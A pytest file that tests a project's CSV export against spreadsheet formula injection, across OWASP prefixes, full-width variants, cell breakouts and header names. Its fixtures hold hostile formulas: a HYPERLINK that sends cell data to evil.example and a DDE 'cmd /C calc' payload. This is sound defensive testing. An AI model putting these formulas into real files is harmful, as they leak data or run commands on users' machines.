"""CSV export against spreadsheet formula injection: every prefix OWASP lists, every text field.

OWASP's CSV Injection page (owasp.org/www-community/attacks/CSV_Injection, as of 2025) says no
cell may begin with `=`, `+`, `-`, `@`, tab (0x09), carriage return (0x0D) or line feed (0x0A),
and that field separators and quotes must not let a payload start a new cell. Spreadsheets also
read the full-width forms (＝ ＋ － ＠) as formula starts. The list is written out here, not
imported from the package, so that a prefix missing from `csvio.FORMULA_START` fails this test.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from borderstates.core import contract
from borderstates.core.csvio import guard_cell
from borderstates.core.engine import open_store
from borderstates.core.export import export_bytes, export_events
from borderstates.core.filters import EventFilter
from borderstates.core.load import load_dataset, load_events
from tests.conftest import FIXTURES, write_csv_rows

OWASP_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
FULL_WIDTH_PREFIXES = ("＝", "＋", "－", "＠")
PREFIXES = OWASP_PREFIXES + FULL_WIDTH_PREFIXES
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")

# Text columns of an event that reach the export verbatim, and the article fields it adds.
EVENT_TEXT = (
    "actor1", "actor2", "location", "summary", "excerpt", "excerpt_en", "source_code", "tags", "notes",
)  # fmt: skip
ARTICLE_TEXT = ("title", "outlet")
EXPORTED_TEXT = (*EVENT_TEXT, *(f"article_{name}" for name in ARTICLE_TEXT))
# Payloads that try to break out of their cell (OWASP: "take care of the field separator and quotes").
BREAKOUTS = ('=1+2";=1+2', "=1+2'\" ;,=1+2", "x,=1+2", "x;=1+2", 'x"=1+2', "x\r\n=1+2", "x\n@SUM(1)")


def payload(prefix: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click") {prefix}cmd|\' /C calc\'!A0'


@pytest.fixture
def hostile_dir(fixture_rows, tmp_path):
    """One event and one article per prefix and per breakout, every text field hostile."""
    texts = [payload(p) for p in PREFIXES] + list(BREAKOUTS)
    events, articles = [], []
    for number, hostile in enumerate(texts):
        article_id = f"A-{number}"
        articles.append(
            {
                "article_id": article_id,
                "title": hostile,
                "outlet": hostile,
                "published": "2025-07",
                "language": "en",
                "url": "",
                "cited_sources": hostile,
            }
        )
        base = fixture_rows[number % 3]
        events.append(
            dict(
                base,
                event_id=f"H-{number}",
                article_id=article_id,
                longitude="-77.0364" if number % 2 else base["longitude"],  # a negative number stays one
                latitude="38.8951" if number % 2 else base["latitude"],
                country="USA" if number % 2 else base["country"],
                **dict.fromkeys(EVENT_TEXT, hostile),
            )
        )
    directory = tmp_path / "hostile"
    directory.mkdir()
    write_csv_rows(directory / "events.csv", contract.EVENT_COLUMNS, events)
    write_csv_rows(directory / "articles.csv", contract.ARTICLE_COLUMNS, articles)
    return directory


def cells(text: str, delimiter: str) -> list[list[str]]:
    """Read CSV as a spreadsheet's import does: RFC 4180 quoting, the file's separator."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Return every cell a spreadsheet would evaluate (the header too): it starts with a formula character."""
    return [cell for row in rows for cell in row if cell[:1] in PREFIXES and not PLAIN_NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_every_owasp_prefix_gets_a_quote(prefix):
    assert guard_cell(payload(prefix)) == "'" + payload(prefix)
    assert guard_cell(prefix) == "'" + prefix
    assert guard_cell("'" + prefix) == "''" + prefix  # an existing quote survives the loader's removal


@pytest.mark.parametrize(
    ("export_format", "delimiter", "encoding"), [("csv", ",", "utf-8"), ("csv-excel", ";", "utf-8-sig")]
)
def test_no_exported_cell_is_a_formula_and_the_export_loads_back(
    hostile_dir, tmp_path, export_format, delimiter, encoding
):
    data = load_dataset(hostile_dir, check_geography=False)
    assert data.errors == [] and len(data.events) == len(PREFIXES) + len(BREAKOUTS)
    out = tmp_path / f"export-{export_format}.csv"
    export_events(open_store(hostile_dir), EventFilter(), out, export_format)

    rows = cells(out.read_bytes().decode(encoding), delimiter)
    header = rows[0]
    assert all(len(row) == len(header) for row in rows)  # no payload opened a cell of its own
    assert formula_cells(rows) == []
    by_column = dict(zip(header, zip(*rows[1:], strict=True), strict=True))
    guarded = [cell for column in EXPORTED_TEXT for cell in by_column[column][: len(PREFIXES)]]
    assert all(cell.startswith("'") for cell in guarded)
    assert any(cell.startswith("-") for cell in by_column["longitude"])  # numbers are not quoted

    again, problems, _ = load_events(out)
    assert problems == []
    for column in (*EVENT_TEXT, "event_id"):
        assert again[column].astype(str).tolist() == data.events[column].astype(str).tolist(), column
    titles = data.articles.set_index("article_id").loc[data.events["article_id"]]
    for name in ARTICLE_TEXT:
        assert again[f"article_{name}"].tolist() == titles[name].tolist()
    assert again["longitude"].tolist() == data.events["longitude"].tolist()


def test_the_download_bytes_are_guarded_the_same_way(hostile_dir):
    data = load_dataset(hostile_dir, check_geography=False)
    store = open_store(hostile_dir)
    for export_format, delimiter in (("csv", ","), ("csv-excel", ";")):
        text = export_bytes(store, EventFilter(), export_format).decode("utf-8-sig")
        rows = cells(text, delimiter)
        assert len(rows) == 1 + len(data.events)
        assert formula_cells(rows) == []


# Names of extra columns (kept by the loader and the exports) that a spreadsheet would run. A
# name is trimmed when read, so none starts with white space; the loader reads `'=1` as `=1`.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/","hdr")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-1+2",
    "＝1",
)


@pytest.mark.parametrize(
    ("export_format", "delimiter", "encoding"), [("csv", ",", "utf-8"), ("csv-excel", ";", "utf-8-sig")]
)
def test_header_names_are_guarded_like_cells_and_load_back_the_same(
    fixture_rows, tmp_path, export_format, delimiter, encoding
):
    directory = tmp_path / "named"
    directory.mkdir()
    columns = (*contract.EVENT_COLUMNS, *HOSTILE_NAMES)
    rows = [dict(row, **{name: f"value {n}" for n, name in enumerate(HOSTILE_NAMES)}) for row in fixture_rows]
    write_csv_rows(directory / "events.csv", columns, rows)
    (directory / "articles.csv").write_bytes((FIXTURES / "articles.csv").read_bytes())
    data = load_dataset(directory, check_geography=False)
    assert data.errors == [] and set(HOSTILE_NAMES) <= set(data.events.columns)
    store = open_store(directory)
    out = tmp_path / f"export.{export_format}"
    export_events(store, EventFilter(), out, export_format)
    download = export_bytes(store, EventFilter(), export_format)
    assert download == out.read_bytes()  # the download is the same file
    header = cells(out.read_bytes().decode(encoding), delimiter)[0]
    assert formula_cells([header]) == []
    assert [name for name in header if name.startswith("'")] == ["'" + name for name in HOSTILE_NAMES]
    again, problems, _ = load_events(out)
    assert problems == []
    for name in HOSTILE_NAMES:
        assert again[name].tolist() == data.events[name].tolist(), name
